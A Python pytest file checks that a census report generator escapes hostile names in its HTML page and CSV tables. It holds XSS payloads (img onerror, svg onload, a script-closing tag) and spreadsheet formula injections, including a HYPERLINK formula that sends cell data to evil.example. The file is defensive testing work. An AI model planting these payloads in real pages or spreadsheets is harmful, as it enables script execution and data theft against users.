"""Hostile names in the inputs: nothing runs in the browser, nothing runs in a spreadsheet."""

from __future__ import annotations

import csv
import dataclasses
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from camcensus.report import write_report
from conftest import offline_page, small_census

# Markup that runs script if it is ever parsed as HTML, or ends the inline <script> element.
IMG = "<img src=x onerror=window.__pwned=1>"
COMMENT = "<!--<script>"
CLOSE = "</script><script>window.__pwned=1</script>"
SVG = '"><svg onload=window.__pwned=1>'
ALERT = "<img src=y onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DOLLAR = r"$\frac{$"  # matplotlib would parse this as (broken) mathtext
HOSTILE = [IMG, COMMENT, CLOSE, SVG, ALERT, FORMULA, "=1+1", "+1+1", "@SUM(A1)", "\u2028x"]


def _hostile(result: Any) -> Any:
    """Rename the result's names to hostile strings, everywhere text reaches the report."""
    from camcensus.stats.disparity import DisparityResult

    tracts = result.tracts.copy()
    tracts["GEOID"] = [f"{IMG}{i}" for i in range(len(tracts))]
    tracts["borough"] = [CLOSE if i % 2 else COMMENT for i in range(len(tracts))]
    pan = result.panoramas.copy()
    boroughs = sorted(pan["BoroName"].dropna().unique())
    new_names = dict(zip(boroughs, ["=1+1", SVG, DOLLAR, ALERT], strict=False))
    pan["BoroName"] = pan["BoroName"].map(lambda b: new_names.get(b, b))
    pan["ImageDate"] = ALERT
    tables = {k: v.rename(index=new_names) for k, v in result.tables.items()}
    result.ledger.note(f"note {IMG} {COMMENT}")
    result.ledger.exclude("stage " + SVG, "reason " + FORMULA, 3)
    published = pd.DataFrame(
        {
            "model": [IMG, "stops_baseline"],
            "term": ["surv", CLOSE],
            "quantity": ["estimate", "p"],
            "published": [0.5, 0.01],
            "ours": [0.51, 0.012],
            "difference": [0.01, 0.002],
            "matches_printed_digits": [True, False],
            "cause": ["", FORMULA],
        }
    )
    records = pd.DataFrame(
        {"year": [2019, 2020], "definition": [SVG, "=1+1"], "estimate": [-3.5, 2.0]}
    )
    disparity = DisparityResult(
        models=[],
        survival=pd.DataFrame(
            {
                "model": ["placement_logit", IMG],
                "borough": [DOLLAR, ALERT],
                "year": [float("nan"), 2019.0],
                "term": ["nonwhite_fraction", COMMENT],
                "estimate": [0.4, -3.5],
                "ci_low": [0.1, -4.0],
                "ci_high": [0.7, -3.0],
                "survives": [True, False],
                "failed_checks": ["", CLOSE],
            }
        ),
        findings=[f"finding {IMG}", f"finding {CLOSE}"],
        tables={"published_vs_ours": published, "records_by_year": records},
    )
    if "interval_method" in {f.name for f in dataclasses.fields(disparity)}:
        disparity = dataclasses.replace(disparity, interval_method=f"profile likelihood {SVG}")
    return dataclasses.replace(
        result,
        title=f"</title>{CLOSE}",
        tracts=tracts,
        panoramas=pan,
        tables=tables,
        skipped=[*result.skipped, {"output": COMMENT, "reason": IMG}],
        disparity=disparity,
    )


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    result = _hostile(small_census(base / "inputs"))
    out = base / "report"
    write_report(result, out)
    return out


def test_no_markup_from_data_in_the_page(hostile_report: Path) -> None:
    html = (hostile_report / "index.html").read_text(encoding="utf-8")
    for text in (IMG, COMMENT, CLOSE, SVG, ALERT, "<svg", "<img src=x", "<img src=y"):
        assert text not in html, text
    # The inline data holds no character that can end or comment out a <script>.
    data = re.search(r"const DATA = (.*?);\n", html, flags=re.S)
    assert data is not None
    assert not set(data.group(1)) & {"<", ">", "&", "\u2028", "\u2029"}
    # Decoded, the data are the hostile names, unchanged.
    decoded = json.loads(data.group(1))
    ids = {f["properties"]["GEOID"] for f in decoded["tracts"]["features"]}
    assert f"{IMG}0" in ids
    # Text is escaped in the markup: the page shows it literally.
    assert "&lt;img src=x onerror=window.__pwned=1&gt;" in html
    # No script builds markup from strings.
    assert not re.search(r"innerHTML\s*\+?=", html.split("const DATA")[1])


def test_interval_method_and_published_table_shown(hostile_report: Path) -> None:
    html = (hostile_report / "index.html").read_text(encoding="utf-8")
    assert "Our numbers next to the published ones" in html
    assert "Intervals and verdicts: profile likelihood" in html
    assert "Records by year" in html
    results = json.loads((hostile_report / "results.json").read_text())
    assert results["who_is_watched"]["interval_method"].startswith("profile likelihood")


_TRIGGER = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_runs_in_a_spreadsheet(hostile_report: Path) -> None:
    seen_quoted = False
    for path in sorted((hostile_report / "tables").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if _TRIGGER.match(cell):
                        assert _number(cell) or re.fullmatch(r"-[A-Za-z0-9_-]*", cell), (
                            path.name,
                            cell,
                        )
                    seen_quoted |= cell.startswith("'=")
    assert seen_quoted
    table = (hostile_report / "tables" / "camera_counts.csv").read_text(encoding="utf-8")
    assert "\n'=1+1," in table
    # Numbers stay numbers.
    records = pd.read_csv(hostile_report / "tables" / "records_by_year.csv")
    assert records["estimate"].tolist() == [-3.5, 2.0]


@pytest.mark.browser
def test_hostile_names_run_nothing_in_chromium(hostile_report: Path) -> None:
    from playwright.sync_api import sync_playwright

    requests: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser, page = offline_page(p, requests)

        def _dialog(dialog) -> None:  # type: ignore[no-untyped-def]
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", _dialog)
        page.goto((hostile_report / "index.html").as_uri())
        page.wait_for_selector("body[data-map-ready=yes]", timeout=60_000)
        assert page.evaluate("document.body.dataset.mapError") is None
        # Only tracts answer the mouse: hover the middle of the map.
        page.uncheck("#show-points")
        box = page.locator("#map").bounding_box()
        assert box is not None
        page.mouse.move(box["x"] + box["width"] * 0.5, box["y"] + box["height"] * 0.5)
        page.wait_for_selector("#tooltip:visible", timeout=10_000)
        tip = page.locator("#tooltip").inner_text()
        tip_elements = page.evaluate(
            "document.querySelectorAll('#tooltip *:not(b):not(br)').length"
        )
        body = page.locator("main").inner_text()
        pwned = page.evaluate("typeof window.__pwned")
        browser.close()
    assert requests == []
    assert dialogs == []
    assert pwned == "undefined"
    # The names are shown as text, literally.
    assert f"Tract {IMG}" in tip, tip
    assert COMMENT in tip or CLOSE in tip, tip
    assert tip_elements == 0
    for text in (IMG, SVG, ALERT, "finding " + CLOSE, "=1+1"):
        assert text in body, text
